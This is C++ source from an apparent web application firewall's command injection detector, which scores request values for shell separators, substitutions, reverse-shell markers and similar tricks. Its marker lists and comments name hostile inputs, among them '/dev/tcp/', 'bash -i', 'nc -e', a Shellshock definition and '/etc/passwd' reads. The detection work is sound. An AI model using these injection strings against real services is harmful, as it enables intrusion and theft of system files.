    const bool strip = op[0] == '#' && (at == 0 || close + 1 >= s.size() || s[close + 1] == '/' || s[close + 1] == '}');
    if (one_char || strip) {
      best = {at, 75, "parameter expansion trick"};
      return;
    }
  }
  // "$((7))", "$[2+2]": arithmetic only a shell evaluates, in a one-line value ("$[]" and
  // "$[elem]" are MongoDB's positional operators, so the brackets must hold a sum).
  if (s.find('\n') == std::string_view::npos) {
    const std::size_t arith = s.find("$((");
    if (arith != std::string_view::npos && s.find("))", arith + 3) != std::string_view::npos) {
      best = {arith, 70, "arithmetic expansion"};
      return;
    }
    for (std::size_t at = s.find("$["); at != std::string_view::npos; at = s.find("$[", at + 2)) {
      const std::size_t close = s.find(']', at + 2);
      if (close == std::string_view::npos) break;
      const std::string_view sum = s.substr(at + 2, close - at - 2);
      if (sum.find_first_not_of("0123456789+-*/% ") == std::string_view::npos && text::find_any(sum, "+-*/%") != std::string_view::npos &&
          text::find_any(sum, "0123456789") != std::string_view::npos) {
        best = {at, 70, "arithmetic expansion"};
        return;
      }
    }
  }
  std::size_t r = s.starts_with("2>") ? 2 : s.starts_with(">") ? 1 : 0;
  if (r > 0 && r < s.size() && s[r] == '>') ++r;
  static constexpr std::string_view kDirs[] = {"/tmp/", "/dev/", "/var/", "/etc/", "/home/", "/root/", "/usr/", "~/"};
  if (r > 0) {
    for (const auto dir : kDirs) {
      if (s.compare(r, dir.size(), dir) == 0 && r + dir.size() < s.size()) {
        best = {0, 75, "output redirected into a system directory"};
        return;
      }
    }
  }
}

class CommandInjectionDetector final : public Detector {
 public:
  AttackClass attack_class() const noexcept override { return AttackClass::command_injection; }

  void scan(const Value& value, Findings& out) const noexcept override {
    std::string_view s = value.decoded;
    Hit best = analyse(s, value.kind);
    // Path normalisation drops a segment's ";..." (a servlet path parameter), where an injected
    // command in a path segment sits ("/ping/127.0.0.1;id"): the raw path shows it.
    if (best.score == 0 && value.kind == LocationKind::path && value.raw.data() != value.decoded.data()) {
      s = value.raw;
      best = analyse(s, value.kind);
    }
    if (best.score == 0) return;
    text::report(out, AttackClass::command_injection, value, s, best.at, 64, best.score, best.rule);
  }

 private:
  static Hit analyse(std::string_view s, LocationKind kind) noexcept {
    Hit best;
    if (s.empty()) return best;
    // An uploaded script ("#!/bin/sh ...") is a file, not an injected command line.
    if (s.starts_with("#!")) return best;
    // Header values have their own grammars ("Accept-Encoding: gzip, deflate"); only an injected
    // separator or substitution counts there.
    std::size_t lines = 0;
    for (std::size_t nl = s.find('\n'); nl != std::string_view::npos && lines < 3; nl = s.find('\n', nl + 1)) ++lines;
    const bool multi_line = lines >= 3;
    if (kind != LocationKind::header) check(s, 0, 70, "command at the start of the value", best);
    std::size_t backticks = 0;
    std::size_t row_end = std::string_view::npos;  // the table-row verdict holds until this line ends
    bool in_table_row = false;
    for (std::size_t i = 0; i < s.size(); ++i) {
      // Table lookups pass over the text between boundaries, most of a long value: four bytes
      // per test and branch, then the one that stopped it.
      const auto boundary = [s](std::size_t k) {
        return static_cast<unsigned>(kBoundaries[static_cast<unsigned char>(s[k])]);
      };
      while (i + 4 < s.size() && (boundary(i) | boundary(i + 1) | boundary(i + 2) | boundary(i + 3)) == 0) i += 4;
      const char c = s[i];
      if (boundary(i) == 0) continue;
      // In multi-line text (posts, descriptions, READMEs) a line that starts with a command is
      // documentation; an injected line break comes with a short value ("x\nid").
      if (c == '\n' && multi_line) continue;
      if (c == ';' || c == '\n' || c == '|' || c == '&') {
        std::size_t j = i + 1;
        if (j < s.size() && (s[j] == '|' || s[j] == '&') && s[j] == c) ++j;
        if (c == '|' && (row_end == std::string_view::npos || i >= row_end)) {
          row_end = std::min(s.find('\n', i), s.size());
          in_table_row = table_row(s, i);
        }
        if (!(c == '|' && in_table_row)) check(s, j, 85, "command after a shell separator", best);
      } else if (c == '`') {
        // Markdown code ("run `ls -la` to list", ``` fences) follows a blank or punctuation; an
        // injected substitution starts the value or follows a word or a shell/argument character.
        const bool fence = (i + 1 < s.size() && s[i + 1] == '`') || (i > 0 && s[i - 1] == '`');
        // Backticks pair up; an even one closes the previous span ("`foo.po` file").
        const bool closing = (backticks++ % 2) == 1;
        const bool opens = i == 0 || text::is_word(s[i - 1]) ||
                           std::string_view(";|&='\"$").find(s[i - 1]) != std::string_view::npos;
        if (!fence && !closing && opens) check(s, i + 1, 90, "command substitution", best, true);
      } else if (c == '$' && i + 1 < s.size() && s[i + 1] == '(' && (i + 2 >= s.size() || s[i + 2] != '(')) {
        check(s, i + 2, 90, "command substitution", best, true);
      } else if ((c == '<' || c == '>') && i + 1 < s.size() && s[i + 1] == '(') {
        check(s, i + 2, 90, "process substitution", best, true);
      }
    }
    // Reverse shells and interpreter one-liners need no separator to be unmistakable. Unix paths
    // and options are case-sensitive, so a plain (vectorised) find does; cmd.exe names are not.
    // Each marker holds a '/', an option (" -") or "()": prose without them skips the finds, which
    // would otherwise stop at every 'b', 's', 'p' and 'r' of the text.
    static constexpr std::string_view kUnixMarkers[] = {"/dev/tcp/", "/dev/udp/", "bash -i", "sh -i", "nc -e",
                                                        "ncat -e", "/bin/sh", "/bin/bash", "python -c", "perl -e",
                                                        "ruby -e", "php -r", "() { :;};", "() { :; };"};
    // " -" searched from its rarer '-': a find of the pair stops at every blank of the text.
    bool option = false;
    for (std::size_t dash = s.find('-', 1); dash != std::string_view::npos && !option; dash = s.find('-', dash + 1))
      option = s[dash - 1] == ' ';
    const bool slash = s.find('/') != std::string_view::npos;
    if (option || slash || s.find("()") != std::string_view::npos) {
      for (auto m : kUnixMarkers) {
        // A marker whose option or '/' the value lacks cannot occur in it.
        if (90 <= best.score || (!option && m.find(" -") != std::string_view::npos) ||
            (!slash && m.find('/') != std::string_view::npos))
          continue;
        const std::size_t at = s.find(m);
        if (at == std::string_view::npos) continue;
        // A shell's path is a one-liner where it runs ("/bin/sh -i", "exec('/bin/sh')", a value
        // ending in it); "the default /bin/sh." and "a /bin/sh shebang" are sentences about it.
        if (m.starts_with("/bin/")) {
          const std::size_t after = at + m.size();
          const bool runs = after >= s.size() || std::string_view(";|&)`'\"<>\n").find(s[after]) != std::string_view::npos ||
                            s.compare(after, 2, " -") == 0;
          if (!runs) continue;
        }
        best = {at, 90, "shell one-liner"};
      }
    }
    // "xp_cmdshell" contains "cmd"; "powershell -e" needs an option.
    if (text::ifind(s, "cmd") != std::string_view::npos || (option && text::ifind(s, "powershell") != std::string_view::npos)) {
      for (auto m : {"cmd.exe", "cmd /c", "powershell -e", "xp_cmdshell"}) {
        const std::size_t at = text::ifind(s, m);
        if (at != std::string_view::npos && 90 > best.score) best = {at, 90, "shell one-liner"};
      }
    }
    if (best.score < 80 && batch_control(s)) best = {0, 80, "cmd.exe FOR/IF statement"};
    // Three memchr beat one table walk when, as in almost every value, none of the bytes is there.
    const bool glob = s.find('?') != std::string_view::npos || s.find('*') != std::string_view::npos ||
                      s.find('[') != std::string_view::npos;
    if (best.score < 85 && glob) {
      if (const std::size_t at = glob_path(s); at != std::string_view::npos) best = {at, 85, "glob expanding to a system file"};
    }
    // Shellshock's function definition opening the value, $SHELL as the program, alias definitions.
    if (best.score < 80 && (s.starts_with("() {") || s.starts_with("(){"))) best = {0, 80, "shell function definition"};
    if (best.score < 80 && s.find('{') != std::string_view::npos) {
      if (const std::size_t at = brace_command(s); at != std::string_view::npos) best = {at, 80, "brace expansion"};
    }
    if (best.score < 85 && s.find("()") != std::string_view::npos) {
      if (const std::size_t at = fork_bomb(s); at != std::string_view::npos) best = {at, 85, "fork bomb"};
    }
    for (auto shell : {"$SHELL -c", "${SHELL} -c", "$BASH -c", "${BASH} -c"}) {
      const std::size_t at = s.find(shell);
      if (at != std::string_view::npos && best.score < 85) best = {at, 85, "shell from the environment"};
    }
    // An unparsed form body ("code=uname -a") starts its value after "name=".
    if (kind == LocationKind::body_text) {
      const std::size_t eq = s.find('=');
      if (eq != std::string_view::npos && eq > 0 && eq < 64 &&
          std::all_of(s.begin(), s.begin() + static_cast<std::ptrdiff_t>(eq),
                      [](char ch) { return text::is_word(ch) || ch == '-' || ch == '.'; }))
        check(s, eq + 1, 70, "command at the start of the value", best);
    }
    if (best.score < 75) shell_expansion(s, best);
    return best;
  }

  // `substitution`: the word runs inside $(...), `...` or <(...), which is already shell syntax.
  static void check(std::string_view s, std::size_t i, int score, std::string_view rule, Hit& best,
                    bool substitution = false) noexcept {
    if (score <= best.score) return;
    if (variable_command(s, i)) {
      best = {i == 0 ? 0 : i - 1, score, "command from a variable"};
      return;
    }
    const std::size_t start = skip_blank(s, i);
    // "${IFS}id": only a shell reads its field separator as a blank; "|$u wget x": after a
    // separator, an unset variable before the command word is a blank only to a shell, too.
    const std::string_view skipped = s.substr(i, start - i);
    const bool ifs = skipped.find("IFS") != std::string_view::npos || (i > 0 && skipped.find('$') != std::string_view::npos);
    // SQLite's shell runs commands with ".shell" and ".system" ("1;.shell whoami").
    for (std::string_view dot : {".shell", ".system"}) {
      const std::size_t after = start + dot.size();
      if (text::istarts_with(s.substr(start), dot) && (after >= s.size() || is_space(s[after]))) {
        best = {i == 0 ? 0 : i - 1, score, "sqlite shell command"};
        return;
      }
    }
    // "; $0 -c id": the running shell by its own name.
    if (i > 0 && s.compare(start, 2, "$0") == 0 &&
        (start + 2 == s.size() || s.compare(start + 2, 3, " -c") == 0 || s.compare(start + 2, 3, " -i") == 0)) {
      best = {i - 1, score, "the shell by its own name"};
      return;
    }
    std::array<char, kMaxWord> buf{};
    std::size_t n = 0;
    bool obfuscated = false;
    std::size_t end = read_word(s, start, buf, n, &obfuscated);
    if (n == 0 || n > 24) return;
    const std::string_view word(buf.data(), n);
    // "time ifconfig", "sudo id": judge the command the prefix runs.
    if (in(kPrefixPrograms, word)) {
      // Their own options and numbers come first: "timeout 5 id", "nice -n 10 id", "sudo -u x id".
      std::size_t at = skip_blank(s, end);
      for (int k = 0; k < 3 && at < s.size() && (s[at] == '-' || is_digit(s[at])); ++k) {
        while (at < s.size() && !is_space(s[at])) ++at;
        at = skip_blank(s, at);
      }
      std::array<char, kMaxWord> next{};
      std::size_t m = 0;
      const std::size_t after = read_word(s, at, next, m);
      if (m > 0 && program(std::string_view(next.data(), m)) && after > end) {
        best = {i == 0 ? 0 : i - 1, score, rule};
        return;
      }
    }
    // "x & FOR /F %G IN ('whoami') DO ...": cmd.exe control flow after a separator, as at the start.
    if (i > 0 && (word == "for" || word == "if") && batch_control(s.substr(start))) {
      best = {i - 1, score, "cmd.exe FOR/IF statement"};
      return;
    }
    if (word == "alias" && alias_definition(s, end)) {
      best = {i == 0 ? 0 : i - 1, score, "alias definition"};
      return;
    }
    const std::string_view w = program_name(word);
    if (w.empty()) return;
    // "cmd = ...", "cmd += ...": a variable in code, not a command line.
    const std::size_t next = s.find_first_not_of(" \t", end);
    if (next != std::string_view::npos && !substitution &&
        (s[next] == '=' || (next + 1 < s.size() && s[next + 1] == '=' && std::string_view("+-:*/|&.").find(s[next]) != std::string_view::npos)))
      return;
    // Quotes, escapes or empty substitutions inside a program name ("w'h'oami", "pi$()ng") hide
    // it from filters; nothing else writes a name that way.
    // Unix program names are lower case: "$(MAKE)" is a make variable and "Make /var/x writable"
    // a sentence ("CD /" in capitals is still cmd.exe, which ignores case).
    const std::string_view spelled = s.substr(start, end - start);
    const auto upper = [](char ch) { return ch >= 'A' && ch <= 'Z'; };
    const auto lower_case = [](char ch) { return ch >= 'a' && ch <= 'z'; };
    if (substitution && std::any_of(spelled.begin(), spelled.end(), upper)) return;
    const bool sentence_case = !spelled.empty() && upper(spelled.front()) && std::any_of(spelled.begin(), spelled.end(), lower_case);
    if (i == 0 && sentence_case && in(kWordPrograms, w)) return;
    // "PowerShell crashes on start": PowerShell's script argument takes anything, but a sentence
    // opening with its name needs an option to be a command line ("PowerShell -enc ...").
    if (i == 0 && sentence_case && (w == "powershell" || w == "pwsh") && !option_soon(s, end, 0)) return;
    if (substitution || obfuscated || ifs) {
      if (end < s.size() && text::is_word(s[end])) return;
      best = {i == 0 ? 0 : i - 1, score, rule};
      return;
    }
    const bool word_program = in(kWordPrograms, w);
    // ";env" (no blank after the separator) reads as code; "more; less" reads as prose.
    const bool tight = i > 0 && start == i;
    // "& dir", "; id": the two listings an injection probes with, alone at the end.
    if (word_program && w != "id" && w != "dir" && !tight && s.find_first_not_of(" \t\r\n", end) == std::string_view::npos)
      return;
    // "{cat,/etc/passwd}", "{ls,-la}": brace expansion separates the arguments with commas.
    if (start > 0 && s[start - 1] == '{' && end + 1 < s.size() && s[end] == ',' &&
        std::string_view("-/$~.").find(s[end + 1]) != std::string_view::npos && s.find('}', end) != std::string_view::npos) {
      best = {i == 0 ? 0 : i - 1, score, "brace expansion"};
      return;
    }
    if (i > 0 && (w == "echo" || w == "printf") && echo_marker(s, i, end)) {
      best = {i - 1, score, rule};
      return;
    }
    // At the very start only options, paths and substitutions count: "cat /etc/passwd", not "ping me".
    if (i == 0) {
      if (end >= s.size()) return;
      const std::size_t arg = s.find_first_not_of(" \t", end);
      // "cat${IFS}/etc/passwd": the field separator is the blank.
      const bool blank_ifs = s.compare(end, 4, "$IFS") == 0 || s.compare(end, 5, "${IFS") == 0;
      const bool pathish = blank_ifs || (arg != std::string_view::npos && arg > end && arg + 1 < s.size() &&
                           std::string_view("-+/$~.\\").find(s[arg]) != std::string_view::npos &&
                           !is_space(s[arg + 1]) && !(s[arg] == '-' && s[arg + 1] == '-' &&
                                                      (arg + 2 >= s.size() || !text::is_word(s[arg + 2]))));
      // A program that is also a word needs its option right away: "env adds --chdir" is prose.
      if (word_program && !pathish && !option_soon(s, end, 0)) return;
    }
    // A name like "ansible-vault" or "systeminfo" takes any word as its argument.
    const std::size_t arg = s.find_first_not_of(" \t", end);
    const bool named = distinctive(w, word_program) && arg != std::string_view::npos && arg > end && is_alpha(s[arg]);
    if (!named && !option_soon(s, end, word_program ? 0 : 2) &&
        !shell_argument(s, end, word_program, w, tight, i > 0))
      return;
    best = {i == 0 ? 0 : i - 1, score, rule};
  }
};

}  // namespace

std::unique_ptr<Detector> make_command_injection() { return std::make_unique<CommandInjectionDetector>(); }

}  // namespace waf::engine
